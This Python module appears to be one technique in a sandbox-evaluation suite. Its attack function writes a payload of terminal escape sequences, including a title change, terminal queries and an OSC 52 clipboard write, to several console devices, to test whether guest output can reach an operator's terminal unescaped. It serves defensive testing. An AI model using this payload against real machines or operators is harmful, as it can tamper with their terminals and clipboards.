"""What a console prints is read by a terminal of an operator."""

import contextlib
from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import BLOCKED, HOST_SECRET, Technique

TECHNIQUE = Technique(
    tries="Write escape sequences for terminals to every console of the machine.",
    claim="G1",
    defences=("jail",),
    stopped_by=("guest:",),
    goals=(HOST_SECRET,),
    policies=(BLOCKED,),
    blank="what a console says goes into a bounded log as it is, and is shown escaped",
)


def attack(case: Case, what: Any) -> None:
    bad = b"\x1b]0;owned\x07\x1b[6n\x1bP$q\x1b\\\x1b]52;c;aGk=\x07" + case.token.encode()
    wrote = []
    for path in ("/dev/console", "/dev/hvc0", "/dev/ttyS0", "/dev/kmsg", "/dev/tty0"):
        with contextlib.suppress(OSError), open(path, "wb", buffering=0) as file:
            file.write(bad)
            wrote.append(path)
    case.did(f"wrote {len(bad)} bytes to {wrote}")
    case.refused("nothing came back")
